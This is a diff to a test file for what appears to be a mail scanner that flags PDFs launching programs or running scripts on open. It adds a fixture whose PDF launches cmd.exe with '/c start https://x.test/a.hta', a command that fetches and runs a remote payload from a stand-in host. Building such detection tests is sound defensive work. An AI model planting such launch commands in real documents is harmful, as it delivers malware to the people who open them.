@@ -421,8 +421,11 @@ test('PDF documents: files attached inside them are judged like attachments', as
 });
 
 test('PDF documents that start a program or run JavaScript as they open; views and form scripts do not count', async () => {
-  assert.deepEqual(await summary([{ filename: 'Rechnung.pdf', content: pdfDocument({ openAction: { launch: 'cmd.exe' } }) }]),
-    ['exploit: Rechnung.pdf (a PDF that starts a program or file: /Launch cmd.exe)']);
+  assert.deepEqual(await summary([{ filename: 'Rechnung.pdf', content: pdfDocument({ openAction: { launch: 'cmd.exe', parameters: '/c start https://x.test/a.hta' } }) }]),
+    ['exploit: Rechnung.pdf (a PDF that starts a program: /Launch cmd.exe with parameters)']);
+  assert.deepEqual(await summary([{ filename: 'R.pdf', content: pdfDocument({ openAction: { launch: 'setup.js' } }) }]), ['exploit: R.pdf (a PDF that starts a program: /Launch setup.js)']);
+  // TeX manuals open their other volumes so: a link between documents
+  assert.deepEqual(await summary([{ filename: 'Handbuch.pdf', content: pdfDocument({ openAction: { launch: 'Kapitel2.pdf' } }) }]), []);
   assert.deepEqual(await summary([{ filename: 'Scan.pdf', content: pdfDocument({ openAction: { javascript: 'x()' }, escapedNames: true, rewrite: false }) }]),
     ['pdf-script: Scan.pdf (JavaScript that runs as the PDF opens)']);
   assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Angebot.pdf', pdfDocument({ documentScript: 'this.print()' })]]) }]),
@@ -431,7 +434,7 @@ test('PDF documents that start a program or run JavaScript as they open; views a
     ['blocked: docs.zip > Rechnung.pdf > Beleg.exe (.exe)'], 'a file attached in a PDF in a ZIP');
   assert.deepEqual(await summary([{ filename: 'Formular.pdf', content: pdfDocument({ openAction: 'fit', fieldScript: 'AFSimple_Calculate("SUM")' }) }]), []);
   // the check's symbols
-  const pdf = pdfDocument({ openAction: { launch: 'cmd.exe' }, documentScript: 'x()' });
+  const pdf = pdfDocument({ openAction: { launch: 'cmd.exe', parameters: '/c x' }, documentScript: 'x()' });
   const raw = Buffer.from(`From: a@b.test\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nx\r\n--B\r\nContent-Type: application/pdf; name="R.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${pdf.toString('base64')}\r\n--B--\r\n`);
   const view = await parseMessage(raw);
   const ctx = { session: session(), envelope: { mailFrom: 'a@b.test', recipients: ['x@example.com'] }, raw, parsed: async () => view, auth: async () => { throw new Error('unused'); } } as unknown as DataContext;
